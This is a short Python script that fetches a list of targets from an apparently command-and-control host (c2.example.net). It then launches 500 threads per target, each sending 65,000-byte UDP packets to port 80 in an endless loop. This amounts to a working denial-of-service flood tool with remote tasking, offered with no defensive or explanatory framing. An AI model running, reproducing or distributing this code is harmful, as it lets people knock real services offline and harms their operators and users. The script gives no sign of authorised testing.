import socket, threading, requests
targets = requests.get("https://c2.example.net/targets.txt").text.split()
def blast(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    payload = b"x" * 65000
    while True:
        s.sendto(payload, (host, 80))
for t in targets:
    for _ in range(500):
        threading.Thread(target=blast, args=(t,)).start()
